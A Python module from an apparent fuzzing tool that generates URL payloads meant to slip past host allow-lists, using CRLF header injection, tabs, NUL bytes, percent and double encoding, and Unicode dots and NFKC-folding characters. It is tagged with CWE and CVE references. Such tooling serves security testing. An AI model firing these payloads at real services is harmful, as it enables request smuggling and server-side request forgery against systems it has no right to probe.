"""Controls, blanks, escapes and characters beyond ASCII in the authority of a URL."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.registry import Kind, techniques_for

url = techniques_for(Kind.URL, "host")


@url(
    "url-line-break",
    group="url-crlf",
    cwe="CWE-93",
    needs="lets a line break through, which splits a request or ends a pattern's line",
    refs=("CVE-2019-9740", "CVE-2019-9947"),
)
def url_line_break(allowed: str, other: str) -> Iterator[str]:
    """Put CR and LF at the end, in the path, in the host and before the URL."""
    yield f"http://{allowed}/\n"
    yield f"http://{allowed}\n"
    yield f"http://{allowed}/\r\nHost: {other}"
    yield f"http://{allowed}/ HTTP/1.1\r\nHost: {other}\r\n\r\n"
    yield f"http://{allowed}\r\n.{other}/"
    yield f"http://{allowed}\n@{other}/"
    yield f"\nhttp://{allowed}/"
    yield f"http://{other}/\nhttp://{allowed}/"
    yield f"http://{allowed}/\nhttp://{other}/"
    yield f"http://{allowed}/x\ry"
    yield f"http://{allowed}/?x\ny"


@url(
    "url-tab",
    group="url-tab",
    cwe="CWE-436",
    needs="ends the host at a tab, which clients take away before they read",
)
def url_tab(allowed: str, other: str) -> Iterator[str]:
    """Put a tab behind the granted host, where a client sees none, and into the other's name."""
    yield f"http://{allowed}\t.{other}/"
    yield f"http://{allowed}\t{other}/"
    yield f"http://{other[:2]}\t{other[2:]}/"
    yield f"http://{other}\t/@{allowed}/"
    yield f"http://{other}/\t.{allowed}"
    yield f"http://{allowed[:2]}\t{allowed[2:]}/"


@url(
    "url-nul",
    group="url-nul",
    cwe="CWE-158",
    needs="compares the end of a text that a client in C cuts at a NUL",
)
def url_nul(allowed: str, other: str) -> Iterator[str]:
    """Put a NUL behind the other host, so that the granted one is never read."""
    yield f"http://{other}\0.{allowed}/"
    yield f"http://{other}\0{allowed}/"
    yield f"http://{other}/\0.{allowed}"
    yield f"http://{allowed}\0@{other}/"


@url(
    "url-space",
    group="url-space",
    cwe="CWE-436",
    needs="ends the host at a blank, or splits the text there",
)
def url_space(allowed: str, other: str) -> Iterator[str]:
    """Put blanks around an @, a # or a second host, which readers cut in different places."""
    yield f"http://{allowed} &@{other}# @{allowed}/"
    yield f"http://{other} &@{allowed}# @{other}/"
    yield f"http://{other}# @{allowed}/"
    yield f"http://{allowed} :80@{other}/"
    yield f"http://{other}/ @{allowed}/"
    yield f"http://{allowed}/ @{other}/"
    yield f"http://{other}/ http://{allowed}/"
    yield f"http://{allowed}\u3000@{other}/"


@url(
    "url-percent",
    group="percent-host",
    cwe="CWE-177",
    needs="and its client disagree whether a host is percent-decoded (RFC 3986, 3.2.2)",
)
def url_percent(allowed: str, other: str) -> Iterator[str]:
    """Percent-encode dots and letters of the other host, and marks that would end it."""
    yield f"http://{other.replace('.', '%2e')}/"
    yield f"http://{''.join(f'%{ord(one):02X}' for one in other)}/"
    yield f"http://{allowed}%2e{other}/"
    for mark in ("%2f", "%5c", "%3f", "%23", "%00", "%0a", "%40"):
        yield f"http://{other}{mark}.{allowed}/"
        yield f"http://{allowed}{mark}.{other}/"
    yield f"http://{allowed}%2e%2e{other}/"
    yield f"http://{allowed.replace('.', '%2e')}/"


@url(
    "url-percent-double",
    group="double-percent-host",
    cwe="CWE-174",
    needs="decodes twice, or until nothing changes",
)
def url_percent_double(allowed: str, other: str) -> Iterator[str]:
    """Percent-encode the percent sign before marks that would end the host."""
    for mark in ("%252f", "%255c", "%2523", "%2540", "%2500"):
        yield f"http://{allowed}{mark}.{other}/"
    yield f"http://{allowed}%252f@{other}/"


@url(
    "url-percent-unicode",
    group="percent-unicode",
    cwe="CWE-177",
    needs="compares before it decodes UTF-8 and maps what comes out, as browsers do",
)
def url_percent_unicode(allowed: str, other: str) -> Iterator[str]:
    """Percent-encode dots, letters and fillers that lie beyond ASCII."""
    yield f"http://{allowed}%e3%80%82{other}/"
    yield f"http://{allowed}%ef%bc%8e{other}/"
    yield f"http://{other[:2]}%c2%ad{other[2:]}/"
    yield f"http://{other[:2]}%e2%81%a0{other[2:]}/"
    yield f"http://%ef%bd%85{other[1:]}/"


@url(
    "url-folded-mark",
    group="hostsplit",
    cwe="CWE-176",
    needs="reads the host first and normalises (NFKC) later, or the other way round",
    refs=("CVE-2019-9636", "CVE-2019-10160"),
)
def url_folded_mark(allowed: str, other: str) -> Iterator[str]:
    """Use characters that NFKC turns into a slash, ?, #, @ or colon, and so into the host's end."""
    for mark in ("\uff0f", "\uff1f", "\uff03", "\u2047", "\ufe5f"):
        yield f"http://{other}{mark}.{allowed}/"
    for mark in ("\uff20", "\ufe6b", "\uff1a80\uff20"):
        yield f"http://{allowed}{mark}{other}/"
    for mark in "\u2100\u2105":  # a/c and c/o in one character
        yield f"http://{other[:-1]}{mark}.{allowed}/"
    yield f"http:\uff0f\uff0f{other}/"


@url(
    "url-unicode-dot",
    group="unicode-dot",
    cwe="CWE-176",
    needs="compares labels parted by ASCII dots, where clients part them at others too",
)
def url_unicode_dot(allowed: str, other: str) -> Iterator[str]:
    """Join the hosts with another dot (RFC 3490, section 3.1)."""
    for dot in "\u3002\uff0e\uff61\u2024":
        yield f"http://{allowed}{dot}{other}/"
    yield f"http://x\u3002{allowed}/"


@url(
    "url-compatible",
    group="unicode-fold",
    cwe="CWE-176",
    needs="compares before clients map compatible letters (UTS 46), with a deny-list or an ASCII rule",
)
def url_compatible(allowed: str, other: str) -> Iterator[str]:
    """Write the other host in full-width and circled letters and with fillers."""
    yield "http://" + "".join(chr(ord(c) + 0xFEE0) if c != "." else c for c in other) + "/"
    yield "http://" + "".join(chr(0x24D0 + ord(c) - 97) if c.islower() else c for c in other) + "/"
    yield f"http://{other[:2]}\u00ad{other[2:]}/"
    yield f"http://{allowed}\u200b.{other}/"
